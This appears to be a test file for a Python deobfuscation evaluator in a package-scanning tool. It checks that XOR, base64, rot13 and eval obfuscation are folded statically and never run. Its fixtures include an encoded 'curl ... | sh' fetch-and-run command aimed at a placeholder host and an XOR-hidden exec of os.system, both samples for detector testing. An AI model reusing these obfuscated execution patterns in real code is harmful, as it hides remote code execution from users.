"""The static evaluator folds decoding loops, small helpers, zip/map and method calls on decoded
bytes, over constants only, and gives up (rather than guess) on anything it cannot fold."""

from __future__ import annotations

import ast
import base64

from pipwarden.deobfuscate import Evaluator, module_functions


def _evaluator(src: str) -> tuple[Evaluator, ast.Module]:
    tree = ast.parse(src)
    consts: dict[str, ast.expr] = {}
    for stmt in tree.body:
        if isinstance(stmt, ast.Assign) and len(stmt.targets) == 1 and isinstance(stmt.targets[0], ast.Name):
            consts[stmt.targets[0].id] = stmt.value

    def resolve(node: ast.expr) -> str | None:
        parts: list[str] = []
        while isinstance(node, ast.Attribute):
            parts.append(node.attr)
            node = node.value
        if isinstance(node, ast.Name):
            return ".".join([node.id, *reversed(parts)])
        return None

    return Evaluator(consts, resolve, module_functions(tree)), tree


def _xor(text: str, key: str) -> str:
    return "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(text))


def test_run_until_folds_an_xor_loop_before_the_exec() -> None:
    payload = "import os\nos.system('id')\n"
    src = (
        f"def run():\n"
        f"    data = {_xor(payload, 'k3y')!r}\n"
        f"    key = 'k3y'\n"
        f"    out = ''\n"
        f"    for i in range(len(data)):\n"
        f"        out += chr(ord(data[i]) ^ ord(key[i % len(key)]))\n"
        f"    exec(out)\n"
    )
    ev, tree = _evaluator(src)
    fn = tree.body[0]
    assert isinstance(fn, ast.FunctionDef)
    exec_line = fn.body[-1].lineno
    env, steps = ev.run_until(fn.body, exec_line)
    assert env["out"] == payload
    assert "loop" in steps and "xor" in steps


def test_run_until_stops_at_the_target_line_and_drops_unknown_names() -> None:
    src = (
        "def f(arg):\n"
        "    a = 'x' * 3\n"
        "    b = arg + 'y'\n"
        "    c = a.upper()\n"
        "    a = 'changed later'\n"
    )
    ev, tree = _evaluator(src)
    fn = tree.body[0]
    assert isinstance(fn, ast.FunctionDef)
    env, _ = ev.run_until(fn.body, fn.body[3].lineno)
    assert env == {"a": "xxx", "c": "XXX"}  # b depends on a parameter; the later assignment is not run


def test_helper_function_is_inlined_and_bytes_method_on_a_call_folds() -> None:
    encoded = base64.b64encode(b"curl https://example.invalid/i.sh | sh").decode()
    src = (
        "import base64\n"
        "def dec(s):\n"
        "    raw = base64.b64decode(s)\n"
        "    return raw.decode('utf-8')\n"
        f"CMD = dec({encoded!r})\n"
        f"OTHER = base64.b64decode({encoded!r}).decode('utf-8')\n"
    )
    ev, _ = _evaluator(src)
    for name in ("CMD", "OTHER"):
        got = ev.evaluate(ast.Name(id=name, ctx=ast.Load()))
        assert got is not None
        value, steps = got
        assert value == "curl https://example.invalid/i.sh | sh"
        assert steps == ["base64"]


def test_zip_and_map_fold() -> None:
    ev, _ = _evaluator("A = [104, 105]\nB = 'ab'\n")
    got = ev.evaluate(ast.parse("''.join(map(chr, A))", mode="eval").body)
    assert got is not None and got[0] == "hi"
    got = ev.evaluate(ast.parse("[x + y for x, y in zip(B, B)]", mode="eval").body)
    assert got is not None and got[0] == ["aa", "bb"]


def test_unfoldable_things_are_not_guessed() -> None:
    ev, _ = _evaluator("import os\ndef f():\n    return os.environ['HOME']\nX = f()\n")
    assert ev.evaluate(ast.Name(id="X", ctx=ast.Load())) is None
    # a helper with control flow is not inlined
    ev, _ = _evaluator("def g(s):\n    if s:\n        return s\n    return ''\nY = g('a')\n")
    assert ev.evaluate(ast.Name(id="Y", ctx=ast.Load())) is None


def test_loops_are_bounded() -> None:
    src = "def f():\n    out = 0\n    for i in range(10 ** 7):\n        out += i\n    return out\n"
    ev, tree = _evaluator(src)
    fn = tree.body[0]
    assert isinstance(fn, ast.FunctionDef)
    env, steps = ev.run_until(fn.body, fn.body[-1].lineno)
    # the ten-million-step loop is refused, not run: what it would have changed is unknown
    assert "out" not in env and "loop" not in steps


def test_eval_of_a_constant_expression_string_is_folded_not_run() -> None:
    import codecs

    part = base64.b64encode(b"print('hidden')").decode()
    src = (
        "import codecs\n"
        f"magic = {part[:8]!r}\n"
        f"love = {codecs.encode(part[8:], 'rot13')!r}\n"
        "joy = '\\x72\\x6f\\x74\\x31\\x33'\n"
        "trust = eval('\\x6d\\x61\\x67\\x69\\x63') + eval('codecs.decode(love, joy)')\n"
    )
    ev, _ = _evaluator(src)
    got = ev.evaluate(ast.parse("base64.b64decode(eval('trust'))", mode="eval").body)
    assert got is not None
    assert got[0] == b"print('hidden')"
    assert "rot13" in got[1] and "base64" in got[1]
    # something eval could only answer by running code is not folded
    assert ev.evaluate(ast.parse("eval('__import__(\"os\").getcwd()')", mode="eval").body) is None
